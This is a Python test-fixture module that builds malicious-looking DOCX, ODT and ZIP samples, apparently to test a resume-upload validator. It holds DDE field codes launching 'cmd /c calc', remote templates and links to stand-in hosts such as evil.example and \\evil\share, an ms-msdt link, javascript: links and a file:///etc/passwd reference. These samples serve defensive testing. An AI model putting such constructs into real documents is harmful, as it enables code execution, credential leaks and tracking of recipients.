"""DOCX and ODT that run, fetch or hide something, and ZIPs that are something else."""

from collections.abc import Iterator

from applications.tests.resume_packages import (
    MAIN,
    ODF,
    docx_parts,
    odt_parts,
    relations,
    types,
    zipped,
)

SHARE = "\\\\evil"


def active_docx() -> Iterator[tuple[str, bytes]]:
    """Yield DOCX that run, fetch or hide something."""
    binary = b"\x01\x02 not much"
    for name in (
        "word/vbaProject.bin", "word/vbaData.xml", "word/activeX/activeX1.xml",
        "word/embeddings/oleObject1.bin", "word/embeddings/Sheet.xlsx",
        "word/afchunk.mht", "word/afchunk1.htm", "customUI/customUI.xml", "a.exe",
        "word/media/x.js", "word/attachedToolbars.bin", "word/x.hta",
    ):  # fmt: skip
        yield f"docx with {name}", zipped({**docx_parts(), name: binary})
    word = "application/vnd.ms-word"
    for name, kind in {
        "macros": f"{word}.document.macroEnabled.main+xml",
        "a template with macros": f"{word}.template.macroEnabledTemplate.main+xml",
        "a template": MAIN.replace("document.main", "template.main"),
        "a sheet": MAIN.replace("wordprocessingml.document", "spreadsheetml.sheet"),
        "nothing": "",
    }.items():
        yield (
            f"docx that is {name}",
            zipped({**docx_parts(), "[Content_Types].xml": types(kind)}),
        )
    for kind in (
        f"{word}.vbaProject", "application/vnd.ms-office.activeX+xml", "text/html",
        "application/vnd.openxmlformats-officedocument.oleObject",
    ):  # fmt: skip
        more = f'<Default Extension="q" ContentType="{kind}"/>'
        yield (
            f"docx with type {kind}",
            zipped({**docx_parts(), "[Content_Types].xml": types(more=more)}),
        )
    outside = [
        ("attachedTemplate", "http://evil.example/t.dotm"),
        ("attachedTemplate", "\\\\evil\\share\\t.dotm"),
        ("attachedTemplate", "file://evil/share/t.dotm"),
        ("attachedTemplate", "file:////evil/share/t.dotm"),
        ("image", "http://evil.example/pixel.png"),
        ("image", "//evil.example/pixel.png"),
        ("oleObject", "http://evil.example/x"),
        ("frame", "http://evil.example/x"),
        ("subDocument", "http://evil.example/x.docx"),
        ("hyperlink", "javascript:alert(1)"),
        ("hyperlink", "\\\\evil\\share"),
        ("hyperlink", "file://evil/share"),
        ("hyperlink", "ms-msdt:/id x"),
        ("hyperlink", "data:text/html,x"),
        ("hyperlink", "//evil.example"),
        ("externalLink", "http://evil.example/x.xlsx"),
        ("mailMergeSource", "file:///C:/x.csv"),
    ]
    for kind, target in outside:
        rels = relations((kind, target, "External"))
        yield (
            f"docx {kind} to {target}",
            zipped({**docx_parts(), "word/_rels/document.xml.rels": rels}),
        )
    for kind in ("vbaProject", "oleObject", "package", "control", "aFChunk"):
        rels = relations((kind, "media/x.dat", ""))
        yield (
            f"docx with a {kind}",
            zipped({**docx_parts(), "word/_rels/settings.xml.rels": rels}),
        )
    command = "<w:r><w:instrText>{}</w:instrText></w:r>"
    for name, inner in {
        "DDE": command.format('DDE "cmd" "/c calc"'),
        "DDEAUTO in runs": command.format("DDE") + command.format("AUTO c:\\x"),
        "INCLUDEPICTURE": command.format('INCLUDEPICTURE "http://e.example/x"'),
        "INCLUDETEXT": command.format('INCLUDETEXT "C:\\\\x"'),
        "DDE in a simple field": '<w:fldSimple w:instr="DDEAUTO c:\\x"/>',
    }.items():
        yield f"docx {name}", zipped(docx_parts(f"<w:p>{inner}</w:p>"))


def active_odt() -> Iterator[tuple[str, bytes]]:
    """Yield ODT that run, fetch or hide something."""
    for name in ("Basic/script-lc.xml", "Scripts/python/x.py", "Dialogs/a.xml", "a.js"):
        yield f"odt with {name}", zipped({**odt_parts(), name: b"<a/>"})
    href = 'xlink:href="{}"'.format
    for inner in (
        "<office:script/>",
        "<script:event-listener/>",
        "<draw:object-ole/>",
        "<draw:object/>",
        "<draw:applet/>",
        "<draw:plugin/>",
        "<draw:floating-frame/>",
        "<text:dde-connection-decl/>",
        "<office:dde-source/>",
        "<text:section-source/>",
        "<text:execute-macro/>",
        "<form:form/>",
        f"<draw:image {href('http://evil.example/x.png')}/>",
        f"<draw:image {href('//evil.example/x.png')}/>",
        f"<draw:image {href('../../x.png')}/>",
        f"<draw:image {href('file:///etc/passwd')}/>",
        f"<text:a {href('javascript:alert(1)')}>x</text:a>",
        f"<text:a {href('vnd.sun.star.script:x')}>x</text:a>",
        f"<text:a {href('file://evil/share')}>x</text:a>",
        f"<text:p><text:a {href(SHARE)}>x</text:a></text:p>",
    ):
        yield f"odt {inner}", zipped(odt_parts(inner))
    usual = odt_parts()
    locked = f'<m:m xmlns:m="{ODF}:manifest:1.0"><m:encryption-data/></m:m>'.encode()
    pages = f'<m:document-statistic xmlns:m="{ODF}:meta:1.0" m:page-count="900"/>'
    yield "odt encrypted", zipped({**usual, "META-INF/manifest.xml": locked})
    yield "odt of 900 pages", zipped({**usual, "meta.xml": pages.encode()})
    for name in usual:
        rest = {each: usual[each] for each in usual if each != name}
        yield f"odt without {name}", zipped(rest)
    late = {**{k: v for k, v in usual.items() if k != "mimetype"}}
    yield "odt, mimetype late", zipped({**late, "mimetype": usual["mimetype"]})
    yield "odt, mimetype packed", zipped(usual, stored=())
    for kind in ("spreadsheet", "presentation", "text-template", "text-master"):
        said = f"application/vnd.oasis.opendocument.{kind}".encode()
        yield f"an OpenDocument {kind}", zipped({**usual, "mimetype": said})


def others() -> Iterator[tuple[str, bytes]]:
    """Yield ZIPs that are something else."""
    yield "an empty ZIP", zipped({})
    yield "a ZIP", zipped({"cv.pdf": b"x"})
    yield "a JAR", zipped({"META-INF/MANIFEST.MF": b"Main-Class: X", "X.class": b"x"})
    yield "an APK", zipped({"AndroidManifest.xml": b"x", "classes.dex": b"x"})
    yield "an EPUB", zipped({"mimetype": b"application/epub+zip", "a": b"b"})
    yield "both", zipped({**odt_parts(), **docx_parts()})
    usual = docx_parts()
    yield "docx without a byte of text", zipped({**usual, "word/document.xml": b""})
    for name in usual:
        rest = {each: usual[each] for each in usual if each != name}
        yield f"docx without {name}", zipped(rest)
    two = relations(*[("officeDocument", "word/document.xml", "")] * 2)
    yield "docx with two texts", zipped({**usual, "_rels/.rels": two})
    away = relations(("officeDocument", "http://evil.example/x", "External"))
    yield "docx with its text elsewhere", zipped({**usual, "_rels/.rels": away})
    many = b"<Properties><Pages>900</Pages></Properties>"
    yield "docx of 900 pages", zipped({**usual, "docProps/app.xml": many})
